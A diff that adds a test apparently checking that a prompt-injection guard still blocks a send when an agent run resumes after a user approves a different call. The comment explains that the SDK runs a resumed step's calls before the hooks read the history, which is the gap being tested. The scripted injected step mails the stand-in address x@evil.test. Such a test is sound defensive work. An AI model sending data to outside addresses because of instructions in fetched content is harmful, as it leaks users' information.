@@ -343,3 +343,39 @@ def test_a_handoff_in_the_history_is_not_a_tool_result(world: World) -> None:
         )
         assert not run.private
     assert "send_mail" in world.ran
+
+
+def test_a_call_resumed_beside_an_approved_one_is_tainted(world: World) -> None:
+    # The step that stopped for approval also holds a send: on resume from a
+    # stored state, the SDK runs the step's calls before any model call (so
+    # before the hooks read the history).
+    ran = world.ran
+
+    @function_tool(needs_approval=True)
+    def archive(name: str) -> str:
+        """Archive a document (asks the user first)."""
+        ran.append("archive")
+        return "archived"
+
+    agent = world.agent()
+    agent.tools.append(archive)
+    agent = guard_agent(world.guard, agent)
+    rounds = script(
+        [call("fetch_page", {"url": "u"})],
+        [
+            call("archive", {"name": "n"}),
+            call("send_mail", {"to": "x@evil.test", "body": "hi"}),
+        ],
+    )
+    with acting_as(READER):
+        with agent_run():
+            first = asyncio.run(Runner.run(agent, rounds))
+        assert first.interruptions
+        stored = first.to_state().to_json()
+        with agent_run():
+            state = asyncio.run(_load(agent, stored))
+            for item in state.get_interruptions():
+                state.approve(item)
+            out = asyncio.run(Runner.run(agent, state))
+    assert "archive" in world.ran
+    _refused(world, out)
